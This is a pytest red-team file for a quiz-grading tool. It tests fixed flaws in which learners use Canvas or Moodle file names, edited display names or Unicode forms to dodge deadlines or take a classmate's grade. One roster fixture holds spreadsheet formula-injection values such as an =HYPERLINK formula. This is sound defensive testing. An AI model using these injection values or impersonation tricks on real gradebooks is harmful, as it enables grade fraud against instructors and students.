"""Red team, round rt3: the instructor's class workflow attacked through LMS names, deadlines,
identities and the files the grader writes.

Each finding is a test of the SAFE behaviour (it was marked as a strict xfail until it was
fixed; all seven are fixed now, see tests/test_grading_downloads.py for the fixes' own tests);
the tests marked "held" are attacks that held from the start. Quiz grading only (no code is
run), tmp folders only, loopback nothing.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import unicodedata
from datetime import datetime, timezone
from pathlib import Path

import pytest

from pruneedu import quiz
from pruneedu.cli import main
from pruneedu.grading.lms import name_key, parse_canvas
from pruneedu.grading.material import load_material

FIXTURE = Path(__file__).parent / "fixtures" / "class"
QUIZZES, EXERCISES = FIXTURE / "quizzes", FIXTURE / "exercises"
ADA_FILE = FIXTURE / "submissions" / "ada.demo-quiz.responses.json"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DEADLINE = "2026-03-01T23:59+00:00"
ON_TIME = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc).timestamp()
THREE_DAYS_LATE = datetime(2026, 3, 4, 12, 0, tzinfo=timezone.utc).timestamp()


def _responses(learner: str, answers: dict | None = None) -> dict:
    data = json.loads(ADA_FILE.read_text())
    data["learner_id"] = learner
    if answers is not None:
        data["answers"] = answers
    return data


def _put(path: Path, data: dict, mtime: float) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))
    os.utime(path, (mtime, mtime))
    return path


def _grade(folder: Path, out: Path, *extra: str) -> int:
    return main(["grade", str(folder), "--out", str(out), "--no-progress",
                 "--quizzes", str(QUIZZES), "--exercises", str(EXERCISES), *extra])


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _gradebook(out: Path) -> dict:
    return json.loads((out / "gradebook.json").read_text())


# --- rt3 finding 1: a Canvas-looking file name switches the deadline off ---------------------
# docs/lms.md section 4: a Canvas file's lateness is its LATE marker ("unmarked work is on time,
# whatever the file times say"); every other file is judged by its modification time. Whether a
# file "came from Canvas" is read from its base name alone, wherever it lies. In a class that
# collects files into a plain folder (docs/teaching.md section 4: "Put the files in one
# folder"), or from hub folders, a learner who names their upload
# "x_1_2_demo-quiz.responses.json" is never late: three days past the deadline, no penalty, no
# row in late.csv, while a classmate's equally late file is flagged.
def test_a_canvas_looking_name_in_a_plain_folder_does_not_escape_the_deadline(tmp_path):
    folder = tmp_path / "subs"
    _put(folder / "ben.demo-quiz.responses.json", _responses("ben"), THREE_DAYS_LATE)
    _put(folder / "x_1_2_demo-quiz.responses.json", _responses("mallory"), THREE_DAYS_LATE)
    out = tmp_path / "out"
    _grade(folder, out, "--deadline", DEADLINE, "--penalty-per-day", "10")
    late = {row["learner_id"] for row in _rows(out / "late.csv")}
    assert "ben" in late  # the plain name is judged by its file time
    assert "mallory" in late, late


# --- rt3 finding 2: a Moodle learner who takes a classmate's name takes their grade --------
# A Moodle download names each learner's folder "<Full name>_<participant id>_...". The grader
# keys a Moodle learner by the NAME alone (LmsOrigin.source = "moodle:" + name_key(name)), case,
# punctuation and word order ignored, and throws the participant id away. Moodle lets users
# edit their own full name by default. Mallory renames herself "Lovelace Ada" (or "ADA
# LOVELACE") and uploads, after Ada, a file that names ada: the two different Moodle users become
# one learner, the later file counts for Ada and Ada's own file is rejected as an older
# duplicate. Nothing in conflicts.csv says two participant ids met under one name.
ROSTER = ("learner_id,name,canvas_user_id,moodle_username\n"
          "ada,Ada Lovelace,1001,ada\nmallory,Mallory Evil,1003,mallory\n")


def test_two_moodle_participants_with_one_name_are_never_merged_silently(tmp_path):
    folder = tmp_path / "subs"
    ada_answers = _responses("ada")
    wrong = {k: {**v, "value": "a" if isinstance(v["value"], str) else v["value"]}
             for k, v in ada_answers["answers"].items()}
    _put(folder / "Ada Lovelace_111_assignsubmission_file_" / "demo-quiz.responses.json",
         ada_answers, ON_TIME)
    _put(folder / "Lovelace Ada_222_assignsubmission_file_" / "demo-quiz.responses.json",
         _responses("ada", wrong), ON_TIME + 60)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    out = tmp_path / "out"
    _grade(folder, out, "--roster", str(roster))
    conflicts = _rows(out / "conflicts.csv")
    graded = _gradebook(out)
    # Safe: the second participant is reported, or at least Ada's own file is the one graded.
    reported = any("222" in row["files"] for row in conflicts)
    assert reported, (conflicts, _rows(out / "rejects.csv"), graded.get("learners"))


def test_a_learners_moodle_feedback_never_goes_to_another_participant(tmp_path):
    import zipfile

    folder = tmp_path / "subs"
    ada_answers = _responses("ada")
    _put(folder / "Ada Lovelace_111_assignsubmission_file_" / "demo-quiz.responses.json",
         ada_answers, ON_TIME)
    _put(folder / "Lovelace Ada_222_assignsubmission_file_" / "demo-quiz.responses.json",
         _responses("ada"), ON_TIME + 60)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    assignments = tmp_path / "assignments.csv"
    assignments.write_text("item_id,lms_name\ndemo-quiz,Quiz 1\n")
    out = tmp_path / "fb"
    main(["feedback", str(folder), "--out", str(out), "--no-progress", "--quizzes", str(QUIZZES),
          "--exercises", str(EXERCISES), "--roster", str(roster), "--assignments",
          str(assignments), "--format", "moodle"])
    names = zipfile.ZipFile(out / "moodle" / "demo-quiz.zip").namelist()
    # Ada's page (her name, answers and score) must not be uploaded to participant 222.
    assert not [n for n in names if "_222_" in n], names


# --- rt3 finding 3: a name decomposed by macOS (NFD) matches another learner ---------------
# name_key() compares \w+ runs after casefold() but never normalises. A download unpacked on a
# Mac (or zipped there) spells "Zoë" as "Zoe" + U+0308; \w does not match the combining mark, so
# the key becomes "quinn zoe": Zoë's Moodle folder no longer matches her roster row ("Zoë
# Quinn", typed in NFC) and her work is rejected as unknown, and it DOES match a classmate
# "Zoe Quinn", who is credited with Zoë's file.
def test_moodle_names_match_whatever_the_unicode_normal_form():
    nfc = "Zoë Quinn"
    nfd = unicodedata.normalize("NFD", nfc)
    assert name_key(nfd) == name_key(nfc)
    assert name_key(nfd) != name_key("Zoe Quinn")


# --- rt3 finding 4: a Canvas name with digits in it claims another user id -----------------
# CANVAS_NAME reads "<name>[_LATE]_<user id>_<file id>_<file>" with the shortest name first, and
# the learner's sortable name may hold underscores and digits (the suite's own example is
# "smith_jrbob"; Canvas keeps \w characters, and many Canvas accounts let users edit their
# name). Mallory (user 1003) sets her name so the download prefix reads "x_1001_99999999": the
# file "x_1001_99999999_1003_50400_demo-quiz.responses.json" parses as user 1001 (Ada), file id
# 99999999, so it counts for Ada and, as her "latest upload", replaces Ada's own file; no
# conflict is reported because the file names ada, as Canvas supposedly does.
MALLORY_AS_ADA = "x_1001_99999999_1003_50400_demo-quiz.responses.json"


def test_a_canvas_name_holding_digits_cannot_claim_another_user(tmp_path):
    origin = parse_canvas(MALLORY_AS_ADA)
    # Two readings fit; the safe parser refuses the name (None) rather than pick the victim.
    assert origin is None or origin.submitter == "1003", origin


def test_a_canvas_name_holding_digits_cannot_replace_a_classmates_file(tmp_path):
    folder = tmp_path / "subs"
    ada = _responses("ada")
    wrong = {k: {**v, "value": "a" if isinstance(v["value"], str) else v["value"]}
             for k, v in ada["answers"].items()}
    _put(folder / "lovelaceada_1001_50311_demo-quiz.responses.json", ada, ON_TIME)
    _put(folder / MALLORY_AS_ADA, _responses("ada", wrong), ON_TIME)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    out = tmp_path / "out"
    _grade(folder, out, "--roster", str(roster))
    conflicts = _rows(out / "conflicts.csv")
    reported = any(MALLORY_AS_ADA in row["files"] for row in conflicts)
    rejected = {row["file"] for row in _rows(out / "rejects.csv")}
    # Safe: Ada's own upload is never thrown away for a file whose name only seems to be hers
    # unless the instructor is told.
    assert reported or not any("lovelaceada_1001_50311" in name for name in rejected), rejected


# --- rt3 finding 5: a learner hands in a classmate's file and is graded on the classmate's numbers
# Per-learner numbers (``params``) exist so that copying a classmate's answers is wrong. With an
# LMS download and a roster, a file "counts for whoever handed it in" (docs/lms.md 3), but
# quiz.grade_responses draws the numbers (and the pool questions) for the learner_id written IN
# THE FILE. Mallory (Canvas user 1003) uploads Ada's file as it is, learner_id "ada" and all:
# it is graded as Mallory's with Ada's numbers, full marks. The conflict row says "graded as
# theirs", which reads as if the grade were Mallory's own work.
VARIANT_BANK = """format_version: 1
id: var-quiz
title: "Per-learner numbers"
lesson: 01-introduction
questions:
  - id: q-n
    type: numeric
    prompt: "What is {n} times 7?"
    concept: multiplication
    params:
      n: {values: [%s]}
    answer: {formula: "n * 7", tolerance: 0}
    explanation: "Multiply the number by seven to get the product asked for."
""".replace("%s", ", ".join(str(n) for n in range(11, 91)))


def test_a_copied_file_is_graded_on_the_numbers_of_who_handed_it_in(tmp_path):
    from pruneedu.grading.classgrade import GradingSetup, grade_class
    from pruneedu.grading.roster import read_roster
    from pruneedu.quiz.variants import class_seed, concrete, seed_id

    quizzes = tmp_path / "quizzes"
    quizzes.mkdir()
    (quizzes / "var-quiz.yaml").write_text(VARIANT_BANK)
    seed = class_seed("a long instructor secret for rt3")
    material = load_material(quizzes, EXERCISES)
    material = dataclasses.replace(material, variant_seed=seed)
    bank = material.banks["var-quiz"]
    question = bank.questions[0]
    ada_value = concrete(question, "var-quiz", "ada", seed).answer["value"]
    mallory_value = concrete(question, "var-quiz", "mallory", seed).answer["value"]
    assert ada_value != mallory_value  # the seed gives them different numbers
    stamp = "2026-02-21T10:00:00+00:00"
    adas_file = {"format_version": 1, "course_id": "pruneedu-2026", "quiz_id": "var-quiz",
                 "quiz_hash": quiz.content_hash(bank), "learner_id": "ada", "mode": "graded",
                 "variant_seed_id": seed_id(seed), "started_at": stamp, "updated_at": stamp,
                 "answers": {"q-n": {"value": ada_value, "answered_at": stamp}}}
    folder = tmp_path / "subs"
    _put(folder / "evilmallory_1003_50400_var-quiz.responses.json", adas_file, ON_TIME)
    roster = read_roster(__import__("io").StringIO(
        "learner_id,name,canvas_user_id\nada,Ada Lovelace,1001\nmallory,Mallory Evil,1003\n"))
    grades = grade_class(folder, material, setup=GradingSetup(roster=roster), progress=False)
    assert any(c.kind == "claims-other-id" for c in grades.conflicts)  # it is reported...
    # ...but the safe grade is Mallory's: her own numbers (0 points) or no grade at all.
    assert grades.learners["mallory"].scores.get("var-quiz", 0) == 0, grades.learners["mallory"]


# --- rt3 finding 6: hand a quiz in to another Canvas assignment and it is never late ----------
# The item a file is graded for comes from its own name, never from the assignment (download
# folder) it was handed in to, and a Canvas file's lateness is only its LATE marker, which Canvas
# set against THAT assignment's due date. Mallory misses Quiz 1's deadline, uploads her
# demo-quiz.responses.json to an assignment still open (a later lab, or "Final project") and it
# is graded as Quiz 1, on time, full marks; Ben's file, handed in to Quiz 1 late, loses 10%.
def test_a_file_handed_in_to_another_assignment_does_not_escape_the_deadline(tmp_path):
    folder = tmp_path / "subs"
    _put(folder / "quiz1" / "byronben_LATE_1002_50401_demo-quiz.responses.json",
         _responses("ben"), ON_TIME)
    _put(folder / "lab1" / "evilmallory_1003_50402_demo-quiz.responses.json",
         _responses("mallory"), ON_TIME)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER.replace("ada,Ada Lovelace,1001,ada\n",
                                     "ada,Ada Lovelace,1001,ada\nben,Ben Byron,1002,ben\n"))
    out = tmp_path / "out"
    _grade(folder, out, "--roster", str(roster), "--deadline", DEADLINE,
           "--penalty-per-day", "10")
    late = {row["learner_id"] for row in _rows(out / "late.csv")}
    assert "ben" in late  # the LATE marker counts
    flagged = late | {row["learner_id"] for row in _rows(out / "rejects.csv")} | {
        row["learner_id"] for row in _rows(out / "conflicts.csv")}
    assert "mallory" in flagged, _gradebook(out)["learners"]["mallory"]


# --- rt3 finding 7: one learner's file outvotes the class in the distractor counts ----------
# `pruneedu stats` counts every element of an answer list as one pick, with no deduplication and
# no check that a single-choice answer is one choice. One learner handing in
# "q-multi": ["a"] * 5000 (or the same list for q-single, which the grader rejects as invalid)
# makes item_analysis.csv read "a:5000" (here 500) in a class of three: the instructor is told
# that a choice is the class's favourite and rewrites a question that was fine.
def test_one_learner_counts_at_most_once_per_choice_in_the_distractors(tmp_path):
    folder = tmp_path / "subs"
    for learner in ("ada", "ben"):
        _put(folder / f"{learner}.demo-quiz.responses.json", _responses(learner), ON_TIME)
    stuffed = _responses("mallory")
    for qid in ("q-single", "q-multi"):
        stuffed["answers"][qid]["value"] = ["a"] * 500
    _put(folder / "mallory.demo-quiz.responses.json", stuffed, ON_TIME)
    from pruneedu.grading import stats
    from pruneedu.grading.classgrade import grade_class

    grades = grade_class(folder, load_material(QUIZZES, EXERCISES), progress=False)
    rows = {row[1]: row for row in stats.table_rows(grades, stats.item_analysis(grades))}
    for qid in ("q-single", "q-multi"):
        distractors = next(cell for cell in rows[qid] if "*:" in cell)
        counts = [int(part.split(":")[1]) for part in distractors.split() if ":" in part]
        assert max(counts) <= 3, (qid, distractors)


# ============================ attacks that held ============================================

def test_held_a_canvas_file_naming_a_classmate_counts_for_its_uploader(tmp_path):
    folder = tmp_path / "subs"
    _put(folder / "lovelaceada_1001_50311_demo-quiz.responses.json", _responses("ada"), ON_TIME)
    _put(folder / "evilmallory_1003_50400_demo-quiz.responses.json", _responses("ada"), ON_TIME)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    out = tmp_path / "out"
    _grade(folder, out, "--roster", str(roster))
    kinds = {(row["kind"], row["learner_id"]) for row in _rows(out / "conflicts.csv")}
    assert ("claims-other-id", "mallory") in kinds
    rejected = {row["file"] for row in _rows(out / "rejects.csv")}
    assert not any("lovelaceada" in name for name in rejected)  # Ada's own file stays hers


HOSTILE_ROSTER = ("learner_id,name,section,canvas_user_id,sis_user_id,sis_login_id\n"
                  'ada,"=HYPERLINK(""http://127.0.0.1:9/""&A2)",+A1,1001,@SUM(1),-2+3\n'
                  'ben,"\tTab, Ben","\r=1",1002,S2,ben\n'
                  'cal," =1+1",-,1003,S3,cal\n')


@pytest.mark.parametrize("lms", ["plain", "canvas", "moodle"])
def test_held_no_gradebook_cell_starts_a_formula_under_spreadsheet_rules(tmp_path, lms):
    folder = tmp_path / "subs"
    for learner, user in (("ada", 1001), ("ben", 1002), ("cal", 1003)):
        _put(folder / f"x_{user}_{user}0_demo-quiz.responses.json", _responses(learner), ON_TIME)
    roster = tmp_path / "roster.csv"
    roster.write_text(HOSTILE_ROSTER.replace("sis_login_id\n", "sis_login_id\n")
                      if lms != "moodle" else
                      HOSTILE_ROSTER.replace("sis_login_id", "moodle_username"))
    assignments = tmp_path / "assignments.csv"
    assignments.write_text("item_id,lms_name\ndemo-quiz,@Quiz 1\n")
    out = tmp_path / "out"
    _grade(folder, out, "--roster", str(roster), "--assignments", str(assignments),
           "--format", lms)
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    # LibreOffice and Excel also skip leading spaces before a formula sign.
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)], cells


def test_held_an_oversized_file_is_a_reject_and_the_class_is_still_graded(tmp_path):
    folder = tmp_path / "subs"
    _put(folder / "ada.demo-quiz.responses.json", _responses("ada"), ON_TIME)
    huge = _responses("mallory")
    huge["padding"] = "x" * 2_000_000
    _put(folder / "mallory.demo-quiz.responses.json", huge, ON_TIME)
    out = tmp_path / "out"
    assert _grade(folder, out) == 1
    assert "ada" in _gradebook(out)["learners"]


def test_held_grading_twice_writes_the_same_bytes(tmp_path):
    folder = tmp_path / "subs"
    for learner, user in (("ada", 1001), ("jovyan", 1003)):
        _put(folder / f"x_LATE_{user}_{user}0_demo-quiz.responses.json", _responses(learner),
             THREE_DAYS_LATE)
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER)
    outputs = []
    for run in ("a", "b"):
        out = tmp_path / run
        _grade(folder, out, "--roster", str(roster), "--deadline", DEADLINE,
               "--penalty-per-day", "10")
        outputs.append({p.name: p.read_bytes() for p in sorted(out.iterdir())})
    assert outputs[0] == outputs[1]


def test_held_answers_of_every_wrong_type_never_cost_the_class(tmp_path):
    def nested(depth: int) -> object:
        value: object = "x"
        for _ in range(depth):
            value = [value]
        return value

    folder = tmp_path / "subs"
    weird = [None, {"a": 1}, [[1, 2]], 10**400, True, "", ["a"] * 300, nested(900)]
    for number, value in enumerate(weird):
        data = _responses(f"m{number}")
        for answer in data["answers"].values():
            answer["value"] = value
        _put(folder / f"m{number}.demo-quiz.responses.json", data, ON_TIME)
    _put(folder / "ada.demo-quiz.responses.json", _responses("ada"), ON_TIME)
    out = tmp_path / "out"
    assert _grade(folder, out) == 1
    learners = _gradebook(out)["learners"]
    assert learners["ada"]["total"] == 8.0
